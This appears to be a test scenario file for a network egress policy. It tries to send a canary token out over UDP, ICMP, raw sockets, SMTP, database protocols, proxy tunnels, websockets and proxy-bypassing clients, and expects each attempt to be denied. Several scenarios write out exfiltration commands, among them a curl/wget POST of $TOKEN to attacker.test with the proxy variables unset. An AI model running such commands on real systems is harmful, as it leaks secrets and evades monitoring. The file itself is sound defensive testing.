# Everything that is not HTTP: packets, ports, tunnels, mail.

scenario "datagram" {
  describe = "one packet to any address: QUIC, time, management, a resolver of the local network"
  cases    = ["NET-01", "NET-03", "NET-05"]
  policy   = "policies/web.hcl"
  for_each = {
    quic       = "203.0.113.99:443"
    quic_named = "echo.example.com:443"
    quic_v6    = "[2001:db8:2::99]:443"
    time       = "203.0.113.99:123"
    syslog     = "203.0.113.99:514"
    snmp       = "203.0.113.99:161"
    wireguard  = "203.0.113.99:51820"
    tftp       = "203.0.113.99:69"
    dtls       = "203.0.113.99:4433"
    high       = "203.0.113.99:65535"
    private    = "10.0.0.7:4444"
  }
  attempt {
    udp {
      to    = each.value
      bytes = canary.token
    }
  }
  expect {
    verdict = "deny"
    reason  = "protocol_not_granted"
    leak    = none
  }
}

scenario "echo-request-with-a-payload" {
  describe = "ping with the secret in the packet"
  cases    = ["NET-02"]
  policy   = "policies/web.hcl"
  for_each = ["203.0.113.99", "10.0.0.7", "192.0.2.77"]
  attempt {
    icmp {
      to    = each.value
      bytes = canary.token
    }
  }
  expect { leak = none }
}

scenario "multicast-and-broadcast" {
  describe = "packets to everybody on the local network"
  cases    = ["NET-11"]
  policy   = "policies/web.hcl"
  for_each = {
    mdns      = "('224.0.0.251', 5353)"
    ssdp      = "('239.255.255.250', 1900)"
    broadcast = "('255.255.255.255', 9999)"
    subnet    = "('203.0.113.255', 9999)"
  }
  given {
    env = { TOKEN = canary.token }
  }
  attempt {
    run { command = ["python3", "-c", "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\ns.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton('127.0.0.1'))\ntry:\n    s.sendto(os.environ['TOKEN'].encode(), ${each.value})\nexcept OSError as e:\n    print(e)"] }
  }
  attempt {
    udp {
      to    = "203.0.113.99:9999"
      bytes = canary.token
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "connection-to-an-address" {
  describe = "a socket without a name, past every variable that names a proxy"
  cases    = ["NET-04", "NET-05", "HOST-09"]
  policy   = "policies/web.hcl"
  for_each = {
    shell    = "203.0.113.99:4444"
    shell_v6 = "[2001:db8:2::99]:4444"
    tor      = "203.0.113.99:9001"
    irc      = "203.0.113.99:6667"
    https    = "203.0.113.99:443"
    http     = "203.0.113.99:80"
    private  = "10.0.0.7:9999"
    gateway  = "192.168.0.1:3306"
    docker   = "172.17.0.1:2375"
  }
  attempt {
    tcp {
      to    = each.value
      bytes = "${canary.token}\r\n"
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "mail-by-smtp" {
  describe = "a message to a mail server, by name and by address"
  cases    = ["NET-10", "HOST-10"]
  policy   = "policies/web.hcl"
  for_each = ["mail.example.com:25", "mail.example.com:465", "mail.example.com:587", "203.0.113.25:25", "203.0.113.25:2525"]
  attempt {
    tcp {
      to    = each.value
      bytes = "EHLO client\r\nMAIL FROM:<a@attacker.test>\r\nRCPT TO:<b@attacker.test>\r\nDATA\r\n${canary.token}\r\n.\r\n"
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "database-and-cache" {
  describe = "protocols of databases, which write what they are told"
  cases    = ["NET-10", "NET-06"]
  policy   = "policies/web.hcl"
  for_each = ["db.example.com:5432", "db.example.com:3306", "db.example.com:6379", "db.example.com:27017", "db.example.com:11211"]
  attempt {
    tcp {
      to    = each.value
      bytes = "SET a ${canary.token}\r\n"
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "ports-of-the-hosts-own-loopback" {
  describe = "what listens on the host, for the host: databases of developers, debuggers, control ports"
  cases    = ["NET-06", "NET-07", "REDIR-01", "TOOL-17"]
  policy   = "policies/web.hcl"
  for_each = {
    v4    = "127.0.0.1:9999"
    v6    = "[::1]:9999"
    other = "127.8.9.1:6379"
    zero  = "0.0.0.0:9999"
    mapped = "[::ffff:127.0.0.1]:5432"
  }
  attempt {
    tcp {
      to    = each.value
      bytes = canary.token
    }
  }
  expect { leak = none }
}

scenario "tunnel-through-a-proxy" {
  describe = "CONNECT and SOCKS, to whoever offers them"
  cases    = ["NET-09", "NET-10", "TLS-08"]
  policy   = "policies/web.hcl"
  for_each = {
    connect_granted = "echo.example.com:80"
    connect_other   = "203.0.113.99:8080"
    socks           = "203.0.113.99:1080"
    socks_named     = "attacker.test:1080"
  }
  attempt {
    raw {
      connect = each.value
      bytes   = "CONNECT attacker.test:22 HTTP/1.1\r\nHost: attacker.test:22\r\nX-Note: ${canary.token}\r\n\r\n${canary.token}"
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "websocket-as-a-tunnel" {
  describe = "where none is granted: an upgrade, and then anything"
  cases    = ["NET-08", "HP-13"]
  policy   = "policies/web.hcl"
  for_each = ["https://www.example.com/events", "https://echo.example.com/v1/items/1", "https://www.example.com/socket/other"]
  attempt {
    http {
      url = each.value
      headers = {
        Connection            = "Upgrade"
        Upgrade               = "websocket"
        Sec-WebSocket-Version = "13"
        Sec-WebSocket-Key     = "dGhlIHNhbXBsZSBub25jZQ=="
        X-Note                = canary.token
      }
    }
  }
  expect {
    verdict = "deny"
    reason  = ["protocol_not_granted", "path_not_granted"]
    leak    = none
  }
}

scenario "raw-sockets" {
  describe = "packets made by hand"
  cases    = ["NET-02", "SBX-08"]
  policy   = "policies/web.hcl"
  for_each = { icmp = "socket.IPPROTO_ICMP", tcp = "socket.IPPROTO_TCP", gre = "47" }
  given {
    env = { TOKEN = canary.token }
  }
  attempt {
    run { command = ["python3", "-c", "import os, socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, ${each.value})\n    s.sendto(b'\\x08\\x00\\x00\\x00\\x00\\x00\\x00\\x00' + os.environ['TOKEN'].encode(), ('203.0.113.99', 0))\nexcept OSError as e:\n    print(e)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    s.sendto(os.environ['TOKEN'].encode(), ('203.0.113.99', 9))\nexcept OSError as e:\n    print(e)"] }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "letters-as-ports" {
  describe = "the port number is the message: one connection for each letter, none of them granted"
  cases    = ["NET-04", "AUD-07"]
  policy   = "policies/web.hcl"
  attempt {
    for_each = ["2222", "3333"]
    tcp {
      to    = "203.0.113.99:${item.value}"
      bytes = canary.token
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "client-that-ignores-proxies" {
  describe = "no variable is needed to be caught, and none is to escape"
  cases    = ["NET-04", "USE-24"]
  policy   = "policies/web.hcl"
  given {
    env = { TOKEN = canary.token }
  }
  attempt {
    run { command = ["sh", "-c", "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy curl -sS --noproxy '*' -d \"$TOKEN\" https://attacker.test/; wget -q --no-proxy -O- --post-data=\"$TOKEN\" http://attacker.test/; exit 0"] }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}
